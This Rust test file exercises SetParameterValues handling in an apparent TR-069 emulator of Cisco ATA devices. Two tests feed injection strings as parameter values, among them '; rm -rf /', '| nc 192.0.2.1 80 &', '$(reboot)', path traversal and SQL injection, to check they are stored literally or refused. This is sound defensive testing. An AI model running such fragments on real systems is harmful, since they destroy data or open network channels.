//! SetParameterValues: all or nothing, every bad value by name, two names of one value, restarts of its own.
//!
//! Long because each rule of the standard is a case of its own.

use crate::support::requests::{get, set, set_typed};
use crate::support::{Bench, Setup};
use cwmp::rpc::Status;
use cwmp::{CpeResponse, Fault};
use data_model::XsdType;

const CODE: &str = "Device.DeviceInfo.ProvisioningCode";
const INTERVAL: &str = "Device.ManagementServer.PeriodicInformInterval";
const KEY: &str = "Device.ManagementServer.ParameterKey";
const NUMBER: &str = "Device.Services.VoiceService.1.VoiceProfile.1.Line.1.DirectoryNumber";
const USER_ID: &str = "Device.X_CISCO_ATA.Line.1.User_ID";
const AUTH_USER: &str = "Device.Services.VoiceService.1.VoiceProfile.1.Line.1.SIP.AuthUserName";
const ROUTER_MODE: &str = "Device.X_CISCO_ATA.Router.Router_Mode";
const STATIC_NET: &str = "Device.X_CISCO_ATA.Router.WAN_Interface.WAN_Static_IP_NET";

/// Names and codes of the refused parameters.
fn refused(fault: &Fault) -> Vec<(&str, u16)> {
    let parameters = fault.parameters.iter();
    parameters
        .map(|parameter| {
            (
                parameter.parameter_name.as_str(),
                parameter.fault_code.number(),
            )
        })
        .collect()
}

///
#[test]
fn every_bad_value_is_reported_with_its_own_code_and_none_is_set() {
    let mut bench = Bench::bootstrapped("ata192");
    let request = set_typed(
        &[
            (CODE, XsdType::String, "good"),
            ("Device.DeviceInfo.Nonsense", XsdType::String, "x"),
            (
                "Device.Services.VoiceService.1.VoiceProfile.9.Name",
                XsdType::String,
                "x",
            ),
            (INTERVAL, XsdType::Boolean, "1"),
            (
                "Device.ManagementServer.PeriodicInformEnable",
                XsdType::String,
                "perhaps",
            ),
            (
                "Device.ManagementServer.CWMPRetryIntervalMultiplier",
                XsdType::UnsignedInt,
                "999",
            ),
            (
                "Device.Services.VoiceService.1.VoiceProfile.1.DTMFMethod",
                XsdType::String,
                "Morse",
            ),
            ("Device.DeviceInfo.SerialNumber", XsdType::String, "mine"),
            (KEY, XsdType::String, "mine"),
            ("Device.ManagementServer.", XsdType::String, "x"),
            ("", XsdType::String, "x"),
        ],
        "never",
    );
    let fault = bench.ask(request).unwrap_err();
    assert_eq!(fault.code.number(), 9003);
    let expected = [
        ("Device.DeviceInfo.Nonsense", 9005),
        ("Device.Services.VoiceService.1.VoiceProfile.9.Name", 9005),
        (INTERVAL, 9006),
        ("Device.ManagementServer.PeriodicInformEnable", 9006),
        ("Device.ManagementServer.CWMPRetryIntervalMultiplier", 9007),
        (
            "Device.Services.VoiceService.1.VoiceProfile.1.DTMFMethod",
            9007,
        ),
        ("Device.DeviceInfo.SerialNumber", 9008),
        (KEY, 9008),
        ("Device.ManagementServer.", 9005),
        ("", 9005),
    ];
    assert_eq!(refused(&fault), expected);
    assert_eq!(bench.get(CODE), "");
    assert_eq!(bench.get(KEY), "");
}

///
#[test]
fn a_name_that_stands_there_twice_refuses_the_call() {
    let mut bench = Bench::bootstrapped("ata192");
    for values in [["same", "same"], ["one", "other"]] {
        let twice = [(CODE, values[0]), (INTERVAL, "60"), (CODE, values[1])];
        let fault = bench.set(&twice, "never").unwrap_err();
        assert_eq!(fault.code.number(), 9003);
        assert_eq!(refused(&fault), [(CODE, 9003)]);
    }
    assert_eq!(
        (bench.get(CODE), bench.get(INTERVAL)),
        (String::new(), "86400".into())
    );
}

/// Covers, M-01.
#[test]
fn an_empty_list_sets_the_parameter_key_and_nothing_else() {
    let mut bench = Bench::bootstrapped("ata192");
    assert_eq!(bench.set(&[], "Schlüssel 鍵"), Ok(Status::Applied));
    assert_eq!(bench.get(KEY), "Schlüssel 鍵");
    assert_eq!(bench.set(&[], ""), Ok(Status::Applied));
    assert_eq!(bench.get(KEY), "");
}

///
#[test]
fn what_is_answered_is_in_force_and_survives() {
    let mut bench = Bench::bootstrapped("ata192");
    bench
        .acs()
        .calls(set(&[(CODE, "one"), (INTERVAL, "77")], "first"));
    bench.acs().calls(get(&[CODE, INTERVAL, KEY]));
    bench.call_device();
    let session = bench.session();
    let values = &session.values(1).parameter_list;
    let shown: Vec<&str> = values.iter().map(|parameter| parameter.value).collect();
    assert_eq!(shown, ["one", "77", "first"]);
    bench.power_cut();
    let booted = bench.session();
    assert_eq!(booted.value(KEY), Some("first"));
    assert_eq!(
        (bench.get(CODE), bench.get(INTERVAL)),
        ("one".into(), "77".into())
    );
}

/// Covers, P-15.
#[test]
fn a_value_that_needs_a_restart_gets_it_after_the_session() {
    let mut bench = Bench::bootstrapped("ata192");
    bench.acs().calls(set(&[(ROUTER_MODE, "0")], "bridge"));
    bench.acs().calls(get(&[ROUTER_MODE]));
    bench.call_device();
    let session = bench.session();
    session.succeeds();
    let Ok(CpeResponse::SetParameterValuesResponse(response)) = &session.answers[0] else {
        panic!("{:?}", session.answers)
    };
    assert_eq!(response.status, Status::Committed);
    assert_eq!(session.values(1).parameter_list.get(ROUTER_MODE), Some("0"));
    // A restart nobody asked for by name: BOOT, and no M Reboot.
    bench.session().succeeds().informs(&["1 BOOT"]);
    bench.is_quiet_for(60);
}

///
#[test]
fn a_value_that_is_there_already_needs_no_restart() {
    let mut bench = Bench::bootstrapped("ata192");
    assert_eq!(
        bench.set(&[(ROUTER_MODE, "1"), (CODE, "x")], "same"),
        Ok(Status::Applied)
    );
    bench.is_quiet_for(60);
    assert_eq!(
        bench.set(&[(ROUTER_MODE, "0")], "other"),
        Ok(Status::Committed)
    );
    bench.session().informs(&["1 BOOT"]);
    assert_eq!(
        bench.set(&[(ROUTER_MODE, "0")], "same"),
        Ok(Status::Applied)
    );
    bench.is_quiet_for(60);
}

/// Covers S-02, N-13.
#[test]
fn what_the_acs_sets_is_no_news_to_it() {
    let mut bench = Bench::bootstrapped("ata192");
    bench.set(&[(CODE, "theirs")], "key").unwrap();
    bench.is_quiet_for(60);
    bench.call_device();
    let session = bench.session();
    session.informs(&["6 CONNECTION REQUEST"]);
    assert_eq!(session.value(CODE), None);
}

///
#[test]
fn either_name_of_a_value_sets_both() {
    let mut bench = Bench::bootstrapped("ata192");
    bench.set(&[(NUMBER, "15550100")], "a").unwrap();
    assert_eq!(
        (bench.get(USER_ID), bench.get(AUTH_USER)),
        ("15550100".into(), "15550100".into())
    );
    bench.set(&[(USER_ID, "15550199")], "b").unwrap();
    assert_eq!(
        (bench.get(NUMBER), bench.get(AUTH_USER)),
        ("15550199".into(), "15550199".into())
    );
    bench.power_cut();
    assert_eq!(
        (bench.get(NUMBER), bench.get(USER_ID)),
        ("15550199".into(), "15550199".into())
    );
}

///
#[test]
fn two_names_of_one_value_may_not_be_set_to_different_things() {
    let mut bench = Bench::bootstrapped("ata192");
    bench
        .set(&[(NUMBER, "1"), (USER_ID, "1"), (AUTH_USER, "1")], "same")
        .unwrap();
    for order in [[NUMBER, USER_ID], [USER_ID, NUMBER], [NUMBER, AUTH_USER]] {
        let fault = bench
            .set(&[(order[0], "2"), (order[1], "3")], "never")
            .unwrap_err();
        assert!(
            refused(&fault).iter().all(|(_, code)| *code == 9007),
            "{order:?}: {fault:?}"
        );
        assert_eq!(bench.get(USER_ID), "1");
    }
}

///
#[test]
fn an_address_read_from_the_interface_is_written_to_the_static_settings() {
    let mut bench = Bench::bootstrapped("ata192");
    let (address, mask) = ("Device.LAN.IPAddress", "Device.LAN.SubnetMask");
    let both = [(address, "192.0.2.44"), (mask, "255.255.255.0")];
    assert_eq!(bench.set(&both, "static"), Ok(Status::Committed));
    bench.session().succeeds();
    assert_eq!(bench.get(STATIC_NET), "192.0.2.44:255.255.255.0:0.0.0.0");
    assert_eq!(
        bench.get(address),
        "192.0.2.10",
        "the interface still has its lease"
    );
    let whole = "198.51.100.2:255.255.0.0:198.51.100.1";
    for order in [
        [(address, "192.0.2.45"), (STATIC_NET, whole)],
        [(STATIC_NET, whole), (address, "192.0.2.45")],
    ] {
        let fault = bench.set(&order, "never").unwrap_err();
        assert_eq!(refused(&fault).len(), 1, "{fault:?}");
        assert_eq!(bench.get(STATIC_NET), "192.0.2.44:255.255.255.0:0.0.0.0");
    }
}

///
#[test]
fn the_order_of_values_that_belong_together_has_no_meaning() {
    let request = "Device.LAN.DHCPOption.3.Request";
    let tag = "Device.LAN.DHCPOption.3.Tag";
    let options = "Device.X_CISCO_ATA.Provisioning.DHCP_Option_To_Use";
    for order in [
        [(request, "1"), (tag, "150")],
        [(tag, "150"), (request, "1")],
    ] {
        let mut bench = Bench::bootstrapped("ata192");
        bench.set(&[(options, "66")], "one").unwrap();
        bench.set(&order, "three").unwrap();
        assert_eq!(
            (bench.get(request), bench.get(tag)),
            ("1".into(), "150".into())
        );
        assert_eq!(bench.get(options), "66,,150");
    }
    for order in [
        [(request, "0"), (tag, "150")],
        [(tag, "150"), (request, "0")],
    ] {
        let mut bench = Bench::bootstrapped("ata192");
        assert!(
            bench.set(&order, "never").is_err(),
            "off and set at one time"
        );
    }
}

/// Covers D-01, M05.
#[test]
fn an_acs_url_that_would_orphan_the_device_is_refused_by_every_name() {
    let mut bench = Bench::bootstrapped("ata192");
    for name in [
        "Device.ManagementServer.URL",
        "Device.X_CISCO_ATA.Router.TR_069.TR_069_ACS_URL",
    ] {
        for url in [
            "",
            " ",
            "acs.example.net",
            "/cwmp",
            "ftp://acs.example.net/",
            "http://",
            "https:///cwmp",
            "javascript:alert(1)",
            "http://acs.example.net/a b",
        ] {
            let fault = bench.set(&[(name, url), (CODE, "x")], "never").unwrap_err();
            assert_eq!(refused(&fault), [(name, 9007)], "{url:?}");
        }
    }
    assert_eq!(bench.get(CODE), "");
    bench.is_quiet_for(60);
}

/// Covers R-12, X15.
#[test]
fn a_string_is_taken_for_any_type_and_a_wrong_type_is_not() {
    let mut bench = Bench::bootstrapped("ata192");
    for (name, ty, value, code) in [
        (INTERVAL, XsdType::String, " 0060 ", None),
        (INTERVAL, XsdType::Int, "60", None),
        (INTERVAL, XsdType::UnsignedLong, "60", None),
        (INTERVAL, XsdType::DateTime, "60", Some(9006)),
        (INTERVAL, XsdType::Int, "-60", Some(9006)),
        (
            INTERVAL,
            XsdType::UnsignedInt,
            "18446744073709551616",
            Some(9006),
        ),
        (INTERVAL, XsdType::UnsignedInt, "abc", Some(9006)),
        (
            "Device.ManagementServer.STUNEnable",
            XsdType::Boolean,
            "true",
            None,
        ),
        (
            "Device.ManagementServer.STUNEnable",
            XsdType::Boolean,
            "maybe",
            Some(9006),
        ),
        (
            "Device.ManagementServer.STUNEnable",
            XsdType::UnsignedInt,
            "1",
            Some(9006),
        ),
        (CODE, XsdType::String, "x", None),
        (CODE, XsdType::Boolean, "1", Some(9006)),
        (CODE, XsdType::Base64, "QUJD", Some(9006)),
        (
            "Device.ManagementServer.PeriodicInformTime",
            XsdType::DateTime,
            "99999-01-01",
            Some(9006),
        ),
    ] {
        let answer = bench.ask(set_typed(&[(name, ty, value)], "k"));
        let given = answer.as_ref().err().map(|fault| refused(fault)[0].1);
        assert_eq!(given, code, "{name} {ty} {value}");
    }
    assert_eq!(bench.get(INTERVAL), "60");
    assert_eq!(bench.get("Device.ManagementServer.STUNEnable"), "1");
}

/// Covers R-05, M02.
#[test]
fn more_values_than_the_device_can_take_are_a_fault_of_the_call() {
    let mut bench = Bench::bootstrapped("ata192");
    let names: Vec<String> = (0..10_001)
        .map(|number| format!("Device.X{number}"))
        .collect();
    let values: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "x")).collect();
    let fault = bench.set(&values, "never").unwrap_err();
    assert_eq!((fault.code.number(), fault.parameters.len()), (9004, 0));
}

/// Covers R-10, M-05.
#[test]
fn a_value_set_back_to_the_models_default_is_not_the_installers_again() {
    let setup = Setup {
        installed: vec![
            ("ManagementServer.PeriodicInformInterval", "300"),
            ("DeviceInfo.ProvisioningCode", "installed"),
        ],
        ..Setup::of("ata192")
    };
    let mut bench = setup.bench();
    bench.session();
    assert_eq!(bench.get(INTERVAL), "300");
    bench
        .set(&[(INTERVAL, "86400"), (CODE, "")], "defaults")
        .unwrap();
    bench.power_cut();
    assert_eq!(
        (bench.get(INTERVAL), bench.get(CODE)),
        ("86400".into(), String::new())
    );
    bench.ask(cwmp::rpc::FactoryReset {}).unwrap();
    bench.session();
    assert_eq!(
        (bench.get(INTERVAL), bench.get(CODE)),
        ("300".into(), "installed".into())
    );
}

/// Covers H-23, X-08.
#[test]
fn any_text_comes_back_as_it_was_set() {
    let mut bench = Bench::bootstrapped("ata192");
    let name = "Device.Config.PersistentData";
    let long = "ü<&>\"'".repeat(42);
    for text in [
        "",
        " leading and trailing ",
        "<a href=\"x\">&amp;</a>",
        "]]>",
        "tab\tand\nline",
        "Zoë 電話 \u{1F4DE}",
        "%s%n${7*7}{{7*7}}`id`$(id);reboot",
        "../../etc/passwd",
        &long,
    ] {
        bench.set(&[(name, text)], "k").unwrap();
        assert_eq!(bench.get(name), text);
    }
    let large = "Device.X_CISCO_ATA.Regional.Vertical_Service_Announcement_Codes";
    if bench.device().core().value_of(large).is_some() {
        let text = "x".repeat(20_000);
        bench.set(&[(large, &text)], "k").unwrap();
        assert_eq!(bench.get(large), text);
    }
}

///
#[test]
fn a_trigger_takes_true_and_reads_false() {
    let mut bench = Bench::bootstrapped("ata192");
    let name = "Device.Services.VoiceService.1.VoiceProfile.1.Line.1.Stats.ResetStatistics";
    for value in ["1", "true", "0"] {
        assert_eq!(bench.set(&[(name, value)], "k"), Ok(Status::Applied));
        assert_eq!(bench.get(name), "0");
    }
}

/// Covers M01.
#[test]
fn fragments_of_shell_are_values_like_any_other() {
    let mut bench = Bench::bootstrapped("ata192");
    let name = "Device.X_CISCO_ATA.Line.1.Display_Name";
    for value in [
        "$(reboot)",
        "`id`",
        "; rm -rf /",
        "| nc 192.0.2.1 80 &",
        "a\nb",
        "%s%n",
        "../../etc/passwd",
        "' OR 1=1 --",
    ] {
        match bench.set(&[(name, value)], "k") {
            Ok(_) => assert_eq!(bench.get(name), value),
            Err(fault) => assert_eq!(fault.parameters[0].fault_code.number(), 9007),
        }
    }
}

/// Covers M-07.
#[test]
fn deprecated_parameters_hold_a_value_and_take_writes() {
    let mut bench = Bench::new("spa122");
    let session = bench.session();
    let version = "InternetGatewayDevice.DeviceInfo.SpecVersion";
    assert_eq!(session.value(version), Some("1.0"));
    let limit =
        "InternetGatewayDevice.ManagementServer.UDPConnectionRequestAddressNotificationLimit";
    assert_eq!(bench.get(limit), "0");
    bench.set(&[(limit, "30")], "k").unwrap();
    bench.power_cut();
    assert_eq!(bench.get(limit), "30");
}

/// Covers R-12, M06.
#[test]
fn what_a_profile_may_not_say_an_acs_may_not_either() {
    let mut bench = Bench::bootstrapped("ata192");
    for (name, value, rule) in [
        (
            "Router.WAN_Interface.WAN_Static_IP_NET",
            "192.0.2.7",
            "address:mask:gateway",
        ),
        (
            "Regional.Busy_Tone",
            "480@-19;10(.5/.5/2)",
            "a tone such as",
        ),
        ("Line.1.Dial_Plan", "(xx", "a dial plan in brackets"),
        (
            "Provisioning.Profile_Rule",
            "[--kye x] http://p/a",
            "a rule such as",
        ),
    ] {
        let name = format!("Device.X_CISCO_ATA.{name}");
        let fault = bench.set(&[(&name, value)], "k").unwrap_err();
        assert_eq!(refused(&fault), [(name.as_str(), 9007)]);
        let told = &fault.parameters[0].fault_string;
        assert!(told.contains(rule), "{told}");
    }
}
